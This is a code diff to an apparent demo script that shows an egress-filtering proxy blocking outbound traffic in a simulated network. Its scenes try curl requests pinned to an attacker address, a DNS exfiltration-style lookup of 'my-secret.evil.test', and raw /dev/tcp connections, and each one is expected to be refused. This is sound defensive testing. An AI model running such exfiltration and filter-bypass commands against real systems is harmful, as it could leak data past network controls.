@@ -31,6 +31,11 @@ Outside is a small internet, made for this demo:
 """
 
 
+def known(addr=ATTACKER):
+    """For curl: this is where evil.test is, do not ask."""
+    return f"--resolve evil.test:443:{addr} --resolve evil.test:80:{addr}"
+
+
 class NotAsPromised(Exception):
     pass
 
@@ -78,12 +83,14 @@ class Demo:
 
     # What the owner does
 
-    def start(self, **env):
+    def start(self, keep_policy=False, **env):
         shown = " ".join([f"{name}={value}" for name, value in env.items()] +
                          ["POLICY_PATH=policy.yaml ringfence filter &"])
         show("#", shown)
         self.seen = 0
-        self.world.start(domains=["allowed.test"], env={"LOG_FORMAT": "text", **env})
+        policy = open(self.world.policy_path).read() if keep_policy else None
+        self.world.start(domains=["allowed.test"], policy=policy,
+                         env={"LOG_FORMAT": "text", **env})
 
     def policy(self, text):
         """Write the policy, and show it."""
@@ -165,10 +172,22 @@ def allowed_v6(demo):
 
 
 def name_not_listed(demo):
-    """A name that is not on the list is refused; the log says what would allow it"""
-    demo.refused("curl -sS -4 https://evil.test/", "Connection reset by peer")
+    """A name that is not on the list is not looked up; the log says what would allow it"""
+    demo.refused("curl -sS https://evil.test/", "Could not resolve host: evil.test")
+    demo.log("dns.blocked", "qname=evil.test", 'to_allow="domains: evil.test"')
+    demo.refused("dig @8.8.8.8 +tcp my-secret.evil.test | grep -e status: -e EDE:", "NXDOMAIN")
+    demo.log("dns.blocked", "qname=my-secret.evil.test", "destination_ip=8.8.8.8", "protocol=TCP")
+    expect("no resolver hears of it", not [question for question in
+                                           demo.world.internet.dns.questions
+                                           if "evil" in question.name])
+    tell("No resolver outside has heard either name.")
+
+
+def known_address(demo):
+    """Whoever knows its address is refused all the same, over HTTPS and HTTP"""
+    demo.refused(f"curl -sS {known()} https://evil.test/", "Connection reset by peer")
     demo.log("https.blocked", "https=evil.test", 'to_allow="domains: evil.test"')
-    demo.refused("curl -sS -4 http://evil.test/", "Connection reset by peer")
+    demo.refused(f"curl -sS {known()} http://evil.test/", "Connection reset by peer")
     demo.log("http.blocked", "host=evil.test")
 
 
@@ -197,7 +216,8 @@ def other_port(demo):
 
 def ipv6(demo):
     """IPv6 is no way round"""
-    demo.refused("curl -sS -6 https://evil.test/", "Connection reset by peer")
+    demo.refused(f"curl -sS {known(f'[{ATTACKER6}]')} https://evil.test/",
+                 "Connection reset by peer")
     demo.log("https.blocked", f"dst=[{ATTACKER6}]:443")
     demo.refused(f"curl -sS 'http://[{ATTACKER6}]/'", "Connection reset by peer")
     demo.refused(f"curl -sS 'http://[{ATTACKER6}]:9443/'", "Failed to connect")
@@ -233,7 +253,7 @@ def live_edit(demo):
     demo.seconds_until("evil.test", "RESET")
     demo.log("policy.applied", "-evil.test")
     expect("it is refused again",
-           "Connection reset by peer" in demo.type("curl -sS -4 https://evil.test/"))
+           "Could not resolve host" in demo.type("curl -sS -4 https://evil.test/"))
     demo.world.internet.reset()
 
 
@@ -243,7 +263,7 @@ def broken_edit(demo):
     line = demo.log("policy.reload_failed")
     expect("the log names line and column", re.search(r"policy\.yaml:\d+:\d+: ", line))
     demo.reached("curl -sS -4 https://allowed.test/", f"hello from allowed.test at {ORIGIN}\n")
-    demo.refused("curl -sS -4 https://evil.test/", "Connection reset by peer")
+    demo.refused("curl -sS -4 https://evil.test/", "Could not resolve host")
 
 
 def explain(demo):
@@ -251,17 +271,33 @@ def explain(demo):
     show("#", "pkill ringfence")
     demo.world.ringfence.stop()
     demo.start(BLOCK_ACTION="explain")
-    demo.refused("curl -sS -i -4 http://evil.test/", "HTTP/1.1 403 Forbidden")
-    demo.refused("curl -sS -4 https://evil.test/", "access denied")
+    demo.refused(f"curl -sS -i {known()} http://evil.test/", "HTTP/1.1 403 Forbidden")
+    demo.refused(f"curl -sS {known()} https://evil.test/", "access denied")
+
+
+def other_protocols(demo):
+    """FILTER_MODE=dns-strict: any protocol, to the addresses that an allowed name gave"""
+    show("#", "pkill ringfence")
+    demo.world.ringfence.stop()
+    demo.policy('allowlist:\n  domains:\n    - "allowed.test:22"\n')
+    demo.start(FILTER_MODE="dns-strict", keep_policy=True)
+    shell = "exec 3<>/dev/tcp/{}/{} && echo 'hello server' >&3 && timeout 5 head -n 1 <&3"
+    demo.refused(shell.format(ORIGIN, 22), "refused")
+    demo.reached("dig +short allowed.test", ORIGIN)
+    demo.log("dns.allowed", "qname=allowed.test", f"answers={ORIGIN}")
+    demo.reached(shell.format("allowed.test", 22), "hello server")
+    tell("Only the port that the policy names, and only where the name led:")
+    demo.refused(shell.format("allowed.test", 23), "refused")
+    demo.refused(shell.format(ATTACKER, 22), "refused")
 
 
 def killed(demo):
     """Killed, it leaves the box closed, not open"""
     show("#", "pkill -9 ringfence")
     demo.world.ringfence.kill()
-    for command in "curl -sS -4 https://allowed.test/", "curl -sS -4 https://evil.test/":
+    for command in "curl -sS -4 https://allowed.test/", f"curl -sS {known()} https://evil.test/":
         said = demo.type(command)
-        expect("nothing is reached", "Failed to connect" in said or "reset" in said)
+        expect("nothing is reached", "Could not resolve" in said or "Failed to connect" in said)
     demo.refused(f"curl -sS http://{ATTACKER}:9443/", "Failed to connect")
 
 
@@ -273,9 +309,9 @@ def off(demo):
     demo.reached("curl -sS -4 https://evil.test/", f"hello from evil.test at {ATTACKER}")
 
 
-SCENES = (no_filter, filter_starts, allowed_v4, allowed_v6, name_not_listed, an_address,
-          spoofed_address, other_port, ipv6, udp, second_request, live_edit, broken_edit, explain,
-          killed, off)
+SCENES = (no_filter, filter_starts, allowed_v4, allowed_v6, name_not_listed,
+          known_address, an_address, spoofed_address, other_port, ipv6, udp, second_request,
+          live_edit, broken_edit, explain, other_protocols, killed, off)
 
 
 # The whitelist proxy
